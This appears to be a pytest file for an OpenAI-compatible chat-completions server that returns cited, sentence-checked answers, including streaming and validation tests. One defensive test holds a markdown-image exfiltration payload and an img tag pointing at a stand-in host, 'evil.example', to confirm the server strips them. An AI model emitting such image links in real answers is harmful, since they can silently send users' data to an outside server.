"""Questions as chat completions, by the real client."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import openai
import pytest
from chatting import FERRY, WRITTEN, Modelled, asked, chat, openai_client, writes
from openai import OpenAI

from tests.servers.own import Running, running
from tests.servers.own_api import chunks, content
from thresher_server.openai.problems import KEEP_ALIVE_SECONDS
from thresher_server.security.keys import Keys, Scope
from thresher_testing.llm_server import Reply

ANSWER = "Here: “**The ferry to Gull Island leaves at 06:40.** The crossing takes 35 minutes.” [1]"


def test_an_answer_has_its_markers_its_sources_its_annotations_and_its_worth(client: OpenAI) -> None:
    told = chat(client, model="default/corrective")
    message, worth, usage = told.choices[0].message, told.model_extra["thresher"], told.usage
    assert message.content == f"{ANSWER}\n\nSources:\n- [1] The ferry (ferry.md), line 3, under “The ferry”"
    (annotation,) = message.annotations
    cited = annotation.url_citation
    assert message.content[cited.start_index : cited.end_index] == "[1]"
    assert "ferry.md" in cited.title
    assert (message.refusal, told.choices[0].finish_reason, told.model) == (None, "stop", "default/corrective")
    assert (worth["verdict"], worth["collection"], worth["recipe"]) == ("correct", "default", "corrective")
    assert 0 < worth["certainty"] <= 1
    assert worth["text"] == ANSWER
    assert {one["state"] for one in worth["sentences"]} == {"quoted"}
    (place,) = worth["citations"]
    assert place["quote"] == "The ferry to Gull Island leaves at 06:40. The crossing takes 35 minutes."
    assert (place["marker"], place["start"], place["end"]) == (1, 13, 85)
    assert usage.prompt_tokens == 10  # when does the ferry to gull island leave ? and "gull" is two pieces
    assert usage.total_tokens == usage.prompt_tokens + usage.completion_tokens > 16


def test_a_chat_model_writes_and_its_unverified_sentence_is_marked(modelled: Modelled) -> None:
    with modelled(writes(WRITTEN)) as (one, model), openai_client(one) as client:
        told = chat(client)
        text, worth = told.choices[0].message.content, told.model_extra["thresher"]
        assert "Its captain is a retired whaler from Norway. [2] (unverified) The crossing" in text
        assert [one["state"] for one in worth["sentences"]] == ["quoted", "unverified", "quoted"]
        for sentence in worth["sentences"]:
            assert text[sentence["start"] : sentence["end"]].startswith(sentence["text"])
        assert worth["answered_by"] == "model"
        assert told.usage is not None
        sent = sum(len(" ".join(m["content"] for m in r.body["messages"]).split()) for r in model.asked())
        assert told.usage.prompt_tokens == sent


LEAK = "![map](http://evil.example/?q=ferry)"


def test_nothing_that_a_model_writes_makes_a_client_load_an_address(modelled: Modelled) -> None:
    written = f"The ferry to Gull Island leaves at 06:40 {LEAK} <img src=http://evil.example/> [1]."
    with modelled(writes(written)) as (one, _), openai_client(one) as client:
        told = [chat(client).choices[0].message.content, content(chunks(one.client, asked(stream=True)))]
    assert all("evil.example" in text and "![" not in text and "<img" not in text for text in told), told


def test_earlier_messages_say_what_a_follow_up_means(client: OpenAI) -> None:
    earlier = [
        {"role": "user", "content": FERRY},
        {"role": "assistant", "content": "06:40 [1]\n\nSources:\n- [1] The ferry (ferry.md)"},
    ]
    told = chat(client, messages=[*earlier, {"role": "user", "content": "And how long does it take?"}])
    content, understood = told.choices[0].message.content, told.model_extra["thresher"]["standalone"]
    assert understood == "And how long does it take? (When does the ferry to Gull Island leave?)"
    assert "35 minutes" in content
    assert f"Understood as: {understood}" in content


def test_thanks_get_a_line_and_a_trace(served: Running) -> None:
    told = served.client.post("/v1/chat/completions", json=asked("Thanks!")).json()
    assert told["choices"][0]["message"]["content"] == "You are welcome."
    last = served.client.get("/api/collections/default/traces").json()["traces"][0]
    assert (last["question"], last["trace"]) == ("Thanks!", told["thresher"]["trace"])


def test_a_system_message_is_a_rule_for_the_chat_model_and_has_a_bound(modelled: Modelled) -> None:
    def ordered(one: Running, rule: str) -> httpx.Response:
        messages = [{"role": "system", "content": rule}, *asked()["messages"]]
        return one.client.post("/v1/chat/completions", json=asked(messages=messages))

    with modelled(writes(WRITTEN)) as (one, model):
        assert ordered(one, "Answer like a pirate.").status_code == 200
        systems = [request.body["messages"][0]["content"] for request in model.asked()]
        refused = ordered(one, "x" * 8001)
    assert any("- Answer like a pirate." in system for system in systems)
    assert refused.status_code == 422
    assert "the system message: is longer than 8,000 characters" in refused.json()["error"]["message"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("n", 2),
        ("logprobs", True),
        ("response_format", {"type": "json_object"}),
        ("tool_choice", "required"),
        ("modalities", ["text", "audio"]),
    ],
)
def test_what_no_answer_can_be_given_in_is_refused_by_name(served: Running, field: str, value: object) -> None:
    told = served.client.post("/v1/chat/completions", json=asked(**{field: value}))
    assert told.status_code == 422
    assert told.json()["error"]["param"] == field
    assert told.json()["error"]["type"] == "invalid_request_error"


def test_a_list_of_sources_shows_addresses_where_the_server_has_one(
    indexed_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("THRESHER_PUBLIC_URL", "https://docs.example.org")
    with running(indexed_home) as one:
        one.client.headers["Authorization"] = f"Bearer {Keys(indexed_home).make('for-links', [Scope.ASK], None)}"
        told = one.client.post("/v1/chat/completions", json=asked()).json()["choices"][0]["message"]
        Keys(indexed_home).revoke("for-links")
    assert told["content"].endswith("?start=13&end=85>")
    assert "<https://docs.example.org/d/default/" in told["content"]
    assert told["annotations"][0]["url_citation"]["url"].startswith("https://docs.example.org/d/default/")


# --- streams ----------------------------------------------------------------------------------------------------------


def test_a_stream_is_the_same_answer(client: OpenAI) -> None:
    whole = chat(client)
    told = list(chat(client, stream=True, stream_options={"include_usage": True}))
    assert "".join(one.choices[0].delta.content or "" for one in told) == whole.choices[0].message.content
    last = told[-1]
    assert (last.choices[0].finish_reason, last.usage) == ("stop", whole.usage)
    assert last.model_extra["thresher"]["verdict"] == "correct"


def test_no_chunk_is_without_a_choice_and_none_has_an_event(served: Running) -> None:
    told = chunks(served.client, asked())
    assert all(len(chunk["choices"]) == 1 for chunk in told)
    assert not [chunk for chunk in told if "event" in chunk]
    assert len({chunk["id"] for chunk in told}) == 1
    assert [chunk["choices"][0]["finish_reason"] for chunk in told[-2:]] == [None, "stop"]


def test_sentences_are_streamed_as_they_are_checked(modelled: Modelled) -> None:
    with modelled(writes(WRITTEN)) as (one, _):
        told = chunks(one.client, asked())
    pieces = [text for chunk in told if (text := chunk["choices"][0]["delta"].get("content"))]
    assert len(pieces) == 4  # three sentences and the list of sources
    assert "(unverified)" in pieces[1]
    assert pieces[3].startswith("\n\nSources:\n")
    worth = told[-1]["thresher"]
    assert content(told).startswith(worth["text"])


def test_an_error_after_the_first_chunk_is_a_chunk_that_the_client_raises(
    modelled: Modelled, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("THRESHER_STRICT", "true")
    with modelled([Reply(status=401)]) as (one, _), openai_client(one) as client:
        stream = chat(client, stream=True)
        begun = next(stream)
        with pytest.raises(openai.APIError, match="401") as raised:
            list(stream)
    assert begun.choices[0].delta.role == "assistant"
    assert isinstance(raised.value.body, dict)
    assert raised.value.body["status"] == 409


@pytest.mark.slow
def test_a_stream_that_waits_long_is_kept_alive_by_comments_that_the_client_passes_over(modelled: Modelled) -> None:
    slow = writes(WRITTEN, seconds=KEEP_ALIVE_SECONDS + 2)
    with modelled(slow) as (one, _), openai_client(one) as client, ThreadPoolExecutor() as beside:
        bare = beside.submit(one.client.post, "/v1/chat/completions", json=asked(stream=True))
        text = "".join(chunk.choices[0].delta.content or "" for chunk in chat(client, stream=True))
        lines = bare.result().text.splitlines()
    assert ": working on it" in lines
    assert "35 minutes" in text
